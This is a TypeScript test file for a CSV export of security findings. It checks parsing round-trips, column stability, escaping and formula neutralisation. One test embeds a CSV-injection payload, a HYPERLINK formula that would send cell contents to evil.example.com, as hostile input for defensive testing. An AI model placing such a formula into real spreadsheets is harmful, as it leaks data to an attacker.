import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { bySeverityStatusAndAge, bytesOf, reportOf } from '../report.fixture.ts';
import { dayMs, reportFinding, reportFindings, takenAt } from '../report-finding.fixture.ts';
import type { ReportFinding } from '../report-model.ts';
import { writeCsv } from './csv.ts';
import { runPython } from './python.fixture.ts';

const readCsv = `
import csv, io, json, sys
csv.field_size_limit(10_000_000)
text = sys.stdin.buffer.read().decode('utf-8', 'strict')
json.dump(list(csv.reader(io.StringIO(text, newline=''), strict=True)), sys.stdout)
`;

import { checkProperty } from '../../../tests/harness/properties.ts';

const baseUrl = 'https://assay.example.com/api';
const write = (findings: ReportFinding[], bom = false) => bytesOf(writeCsv(reportOf(findings), { baseUrl, bom }));

/**
 * Returns the expected content of a cell: the text, except for NUL, lone surrogates and the apostrophes before
 * formulas.
 */
function shown(value: string | number | null | undefined): string {
  const text = String(value ?? '')
    .toWellFormed()
    .replaceAll('\0', '\uFFFD');
  const whole = /^\s*[=+@＝＋－＠-]/.test(text) || /^[\t\r\n]/.test(text) ? `'${text}` : text;
  return whole.replace(/([;\t|\r\n](?:"|\s)*)(?=[=+@＝＋－＠-])/g, "$1'");
}

/** Returns the expected rows of the findings, each as an object by column, computed in a simple way. */
function expectedRow(finding: ReportFinding): Record<string, string> {
  const { location, data_source, rule, assignee, places, comments } = finding;
  const entry = (text: string) => text.replaceAll('\\', '\\\\').replaceAll('\r', '\\r').replaceAll('\n', '\\n');
  const range = (from: number | null, to: number | null) =>
    from === null ? '' : `:${from}${to && to !== from ? `-${to}` : ''}`;
  const flat: Record<string, string | number | null | undefined> = {
    id: finding.id,
    title: finding.title,
    description: finding.description,
    severity: finding.severity,
    status: finding.status,
    resolution: finding.resolution,
    source: finding.source,
    data_source_id: data_source.id,
    data_source_name: data_source.name,
    data_source_kind: data_source.kind,
    rule_id: rule.id,
    rule_name: rule.name,
    rule_url: rule.url,
    location_path: location.path,
    location_start_line: location.start_line,
    location_end_line: location.end_line,
    location_start_column: location.start_column,
    location_end_column: location.end_column,
    location_commit: location.commit,
    location_url: location.url,
    package_ecosystem: location.package?.ecosystem,
    package_name: location.package?.name,
    package_version: location.package?.version,
    package_fixed_version: location.package?.fixed_version,
    package_purl: location.package?.purl,
    identifiers: finding.identifiers.map(entry).join('\n'),
    cvss_score: finding.cvss_score,
    evidence: finding.evidence,
    remediation: finding.remediation,
    references: finding.references.map(entry).join('\n'),
    tags: finding.tags.map(entry).join('\n'),
    assignee_id: assignee?.id,
    assignee_name: assignee?.name,
    assignee_email: assignee?.email,
    accepted_until: finding.accepted_until,
    fingerprint: finding.fingerprint,
    occurrences: finding.occurrences,
    places: places
      .map((place) =>
        entry(
          `${place.path ?? ''}${range(place.start_line, place.end_line)}${place.commit ? ` @ ${place.commit}` : ''}`,
        ),
      )
      .join('\n'),
    comment_count: finding.comment_count,
    comments: comments
      .map((comment) => entry(`${comment.created_at} ${comment.author ?? 'Assay'}: ${comment.comment}`))
      .join('\n'),
    reopened_count: finding.reopened_count,
    first_seen_at: finding.first_seen_at,
    last_seen_at: finding.last_seen_at,
    updated_at: finding.updated_at,
    closed_at: finding.closed_at,
    age_days: Math.floor(
      ((finding.closed_at === null ? takenAt : Date.parse(finding.closed_at)) - Date.parse(finding.first_seen_at)) /
        dayMs,
    ),
    due_at: finding.due_at,
    cwe: finding.identifiers.filter((identifier) => identifier.startsWith('CWE-')).join('\n'),
    cve: finding.identifiers.filter((identifier) => identifier.startsWith('CVE-')).join('\n'),
    closed_by: finding.closed ? (finding.closed.by ?? 'Assay') : '',
    closed_reason: finding.closed_at === null ? '' : (finding.closed?.reason ?? finding.resolution),
    console_url: `https://assay.example.com/findings/${finding.id}`,
    context: finding.context ?? '',
    priority: finding.priority,
    priority_reasons: finding.priority_reasons.map(entry).join('\n'),
    epss: finding.epss,
    epss_percentile: finding.epss_percentile,
    kev: finding.kev,
    rule_tags: finding.rule.tags.map(entry).join('\n'),
    number: finding.number,
    standards: finding.standards.join('\n'),
    confidence: finding.confidence,
    scanner_severity: finding.scanner_severity,
  };
  return Object.fromEntries(Object.entries(flat).map(([name, value]) => [name, shown(value)]));
}

const inOrder = (findings: ReportFinding[]) => [...findings].sort(bySeverityStatusAndAge);

for (const count of [0, 1, 200, 3_000]) {
  test(`Python's strict csv module reads the ${count} findings of a report field by field`, async () => {
    const findings = reportFindings(count);
    const bytes = await write(findings);
    const [header, ...rows] = JSON.parse(await runPython('python3', readCsv, bytes)) as string[][];
    const expected = inOrder(findings).map(expectedRow);
    assert.deepEqual(header, Object.keys(expectedRow(reportFinding(0))));
    assert.equal(rows.length, count);
    for (const [index, row] of rows.entries())
      assert.deepEqual(row, Object.values(expected[index]!), `row ${index + 1}`);
    assert.deepEqual(parse(bytes, { columns: true }), expected);
    assert.deepEqual(await write(findings), bytes);
  });
}

test('no text of any kind moves a column, and no cell is a formula', async () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({
      unit: fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '"',
        ',',
        '\n',
        '\r',
        '\t',
        ' ',
        "'",
        '\\',
        '\0',
        ';',
        'a',
        '＝',
        '\uFEFF',
        '\uD800',
      ),
    }),
  );
  await checkProperty(
    fc.asyncProperty(fc.array(fc.tuple(text, text, fc.array(text)), { minLength: 1, maxLength: 20 }), async (texts) => {
      const findings = texts.map(([title, name, tags], index) =>
        reportFinding(index, {
          title,
          tags,
          rule: { id: name, name, url: name, tags: [] },
          evidence: title,
          comments: [{ author: name, created_at: '2026-01-01T00:00:00Z', comment: title }],
        }),
      );
      const rows = parse(await write(findings), { columns: true }) as Array<Record<string, string>>;
      assert.deepEqual(rows, inOrder(findings).map(expectedRow));
      for (const cell of rows.flatMap((row) => Object.values(row))) {
        assert.doesNotMatch(cell, /^(?:[\t\r\n]|\s*[=+@＝＋－＠-])/);
        assert.ok(cell.isWellFormed() && !cell.includes('\0'));
      }
    }),
    { numRuns: 150 },
  );
});

test('no cell is a formula for a spreadsheet that splits at semicolons, tabs or bars', async () => {
  const formula = '=HYPERLINK("https://evil.example.com/?"&A1)';
  for (const separator of [';', '\t', '|', '\n', '\r\n', ';"', '; ']) {
    for (const sign of ['=', '+', '-', '@', '＝']) {
      const text = `harmless, "${separator}${sign}${formula.slice(1)}`;
      const file = String(await write([reportFinding(0, { title: text, tags: ['a', text], evidence: text })]));
      // It recognizes no quotes, since no cell starts with one.
      const cells = file.split(/[;\t|\r\n]/).map((cell) => cell.replace(/^["\s]+/, ''));
      assert.deepEqual(
        cells.filter((cell) => /^[=+@＝＋－＠-]/.test(cell)),
        [],
      );
    }
  }
});

test('entries of a list can be separated whatever they contain', async () => {
  const tags = ['a\nb', 'c\\nd', '', 'e, "f"; g', '\r\n'];
  const [row] = parse(await write([reportFinding(0, { tags })]), { columns: true }) as Array<{ tags: string }>;
  const read = row!.tags
    .split('\n')
    .map((entry) => entry.replace(/\\([\\nr])/g, (_, what) => ({ n: '\n', r: '\r' })[what as string] ?? '\\'));
  assert.deepEqual(read, tags);
});

test('the optional byte order mark precedes the same file', async () => {
  const findings = reportFindings(3);
  const expected = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), await write(findings)]);
  assert.deepEqual(await write(findings, true), expected);
});

test('pieces are 128 KiB, however many findings come at once', async () => {
  const sizes: number[] = [];
  for await (const piece of writeCsv(reportOf(reportFindings(2_000)))) sizes.push(piece.length);
  assert.ok(sizes.length > 5 && sizes.slice(0, -1).every((size) => size === 128 * 1024) && sizes.at(-1)! <= 128 * 1024);
});
